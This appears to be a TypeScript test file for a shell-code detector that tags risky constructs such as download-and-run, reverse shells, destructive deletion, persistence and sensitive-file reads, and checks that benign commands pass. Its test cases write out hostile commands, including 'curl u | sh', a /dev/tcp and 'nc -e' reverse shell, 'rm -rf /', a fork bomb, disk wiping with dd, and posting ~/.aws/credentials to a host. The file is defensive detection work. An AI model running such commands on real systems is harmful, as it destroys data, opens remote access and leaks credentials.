import assert from 'node:assert/strict';
import { test } from 'node:test';
import { shellCode } from '../../src/code/shell/shell.ts';

function found(code: string): readonly string[] {
  return shellCode(code).constructs.map(({ kind, start, end }) => `${kind} ${code.slice(start, end)}`);
}

test('commands are named without their folders, also inside of others', () => {
  assert.deepEqual(shellCode('FOO=1 /usr/bin/env ls | grep x; $(id) `who`; sudo -u me apt list').commands, [
    ...['$', '*', 'apt', 'env', 'grep', 'id', 'ls', 'sudo', 'who'].filter((name) => name !== '$'),
  ]);
});

for (const [code, expected] of [
  ['curl -s u | sh', ['NETWORK curl -s u', 'DOWNLOAD_AND_RUN curl -s u | sh', 'DYNAMIC_CODE curl -s u | sh']],
  ['bash <(wget -qO- u)', ['DOWNLOAD_AND_RUN bash <(wget -qO- u)', 'NETWORK wget -qO- u']],
  [
    'sh -c "$(curl u)"',
    ['DOWNLOAD_AND_RUN sh -c "$(curl u)"', 'DYNAMIC_CODE sh -c "$(curl u)"', 'NETWORK curl u'],
  ],
  ['curl u -o /tmp/a; sh /tmp/a', ['NETWORK curl u -o /tmp/a', 'DOWNLOAD_AND_RUN sh /tmp/a']],
  [
    'wget https://x.example/b.sh && ./b.sh',
    ['NETWORK wget https://x.example/b.sh', 'DOWNLOAD_AND_RUN ./b.sh'],
  ],
  ["bash -c 'rm -rf /'", ['DESTRUCTIVE rm -rf /', 'FILE_DELETE rm -rf /']],
  [
    'sudo bash -c \'eval "rm -r ~"\'',
    ['PRIVILEGE sudo bash -c \'eval "rm -r ~"\'', 'DESTRUCTIVE rm -r ~', 'FILE_DELETE rm -r ~'],
  ],
  ['r""m -r\\f "$HOME"', ['DESTRUCTIVE r""m -r\\f "$HOME"', 'FILE_DELETE r""m -r\\f "$HOME"']],
  ["$'\\x72m' a", ["FILE_DELETE $'\\x72m' a"]],
  ['x=rm; $x a', ['FILE_DELETE $x a']],
  ['$x a', ['DYNAMIC_CODE $x']],
  ['{rm,-rf,a}', ['DYNAMIC_CODE {rm,-rf,a}']],
  ['find . -exec rm {} \\;', ['FILE_DELETE rm {}']],
  ['find . -delete', ['FILE_DELETE find . -delete']],
  ["ls | xargs -I{} sh -c 'rm {}'", ['FILE_DELETE rm {}']],
  [
    'echo cm0gYQ== | base64 -d | sh',
    ['FILE_DELETE echo cm0gYQ==', 'ENCODED_PAYLOAD echo cm0gYQ== | base64 -d | sh'],
  ],
  ['sh <<EOF\nrm a\nEOF', ['FILE_DELETE rm a']],
  ['cat <<EOF | bash\nrm a\nEOF', ['FILE_DELETE rm a']],
  ["sh <<< 'rm a'", ['FILE_DELETE rm a']],
  ['echo "$(rm a)"', ['FILE_DELETE rm a']],
  ['echo `rm a`', ['FILE_DELETE rm a']],
  ['eval "$x"', ['DYNAMIC_CODE eval "$x"']],
  [
    'bash -i >& /dev/tcp/192.0.2.1/99 0>&1',
    ['NETWORK >& /dev/tcp/192.0.2.1/99', 'REVERSE_SHELL >& /dev/tcp/192.0.2.1/99'],
  ],
  [
    'nc -e /bin/sh 192.0.2.1 99',
    ['NETWORK nc -e /bin/sh 192.0.2.1 99', 'REVERSE_SHELL nc -e /bin/sh 192.0.2.1 99'],
  ],
  ['dd if=/dev/zero of=/dev/sda', ['DESTRUCTIVE dd if=/dev/zero of=/dev/sda']],
  [':(){ :|:& };:', ['DESTRUCTIVE :(){ :|:& }']],
  ['chmod 777 a', ['PRIVILEGE chmod 777 a']],
  ['cat ~/.ssh/id_rsa', ['SENSITIVE_FILE ~/.ssh/id_rsa']],
  [
    'curl -d @$HOME/.aws/credentials u',
    ['NETWORK curl -d @$HOME/.aws/credentials u', 'SENSITIVE_FILE @$HOME/.aws/credentials'],
  ],
  [
    'echo x >> ~/.bashrc',
    ['FILE_WRITE >> ~/.bashrc', 'PERSISTENCE >> ~/.bashrc', 'SENSITIVE_FILE ~/.bashrc'],
  ],
  ['crontab a', ['PERSISTENCE crontab a']],
  ['pip install a', ['INSTALL pip install a']],
  ['env', ['ENVIRONMENT env']],
  ['echo $API_KEY', ['ENVIRONMENT $API_KEY']],
  ['python3 -c "import os; os.remove(1)"', ['FILE_DELETE os.remove']],
  ["node -e 'eval(x)'", ['DYNAMIC_CODE eval']],
  ['ssh host "rm a"', ['NETWORK ssh host "rm a"', 'FILE_DELETE rm a']],
  ["trap 'rm a' EXIT", ['FILE_DELETE rm a']],
  ["alias ls='rm a'", ["FILE_DELETE ls='rm a'"]],
  ['git push --force', ['DESTRUCTIVE git push --force', 'NETWORK git push --force']],
  ['docker run --privileged x', ['PRIVILEGE docker run --privileged x']],
  ['LD_PRELOAD=./a.so ls', ['DYNAMIC_CODE LD_PRELOAD=./a.so']],
  ['rm a\nif', ['FILE_DELETE rm a', 'UNPARSEABLE f']],
] as const)
  test(`is dangerous: ${JSON.stringify(code)}`, () => {
    assert.deepEqual(found(code), expected);
  });

for (const code of [
  "echo 'rm -rf /' # rm -rf /",
  'grep -rn "curl | sh" .',
  'ls -la && git status && git log --oneline | head -5',
  'cat README.md | wc -l > /dev/null 2>&1',
  'for f in *.py; do echo "$f"; done',
  "sh -c 'echo hi'",
  'find . -name "*.rm" -print',
  'sed -n 1,5p a',
  "awk '{print $1}' a",
  'man rm',
  'curl --version',
  'PATH=$PATH:/opt/bin make test',
  'npm run build',
  'cd "$HOME" && pwd',
  'echo "$PWD"',
  'if [ -f a ]; then cat a; fi',
  'git commit -m "drop curl, use rm -rf"',
])
  test(`is harmless: ${JSON.stringify(code)}`, () => {
    assert.deepEqual(found(code), []);
    assert.equal(shellCode(code).syntaxError, null);
  });

for (const code of ["echo 'a", 'if true; then', 'echo "$(ls', 'a\0b', '(ls'])
  test(`does not parse: ${JSON.stringify(code)}`, () => {
    assert.notEqual(shellCode(code).syntaxError, null);
    assert.ok(found(code).some((one) => one.startsWith('UNPARSEABLE')));
  });

test('code in Markdown is read at its place; what stands around it is not called broken', () => {
  const text = "Don't worry:\n\n```bash\nrm a\n```\n\n```json\n{}\n```\n";
  assert.deepEqual(found(text), ['FILE_DELETE rm a']);
});

test('of a recorded session what was typed is read', () => {
  assert.deepEqual(found('```console\n$ rm a\nrm: a: it is gone\n$ ls\n```'), ['FILE_DELETE rm a']);
});

test('code behind an empty fence is read: to a shell the fence is nothing', () => {
  assert.deepEqual(found('```\n```\nrm a'), ['FILE_DELETE rm a']);
});

test('nested deeper than is followed, it does not parse', () => {
  let code = 'rm a';
  for (let depth = 0; depth < 8; depth++) code = `eval ${JSON.stringify(code).replaceAll('$', '\\$')}`;
  assert.ok(found(code).some((one) => one.startsWith('UNPARSEABLE')));
});
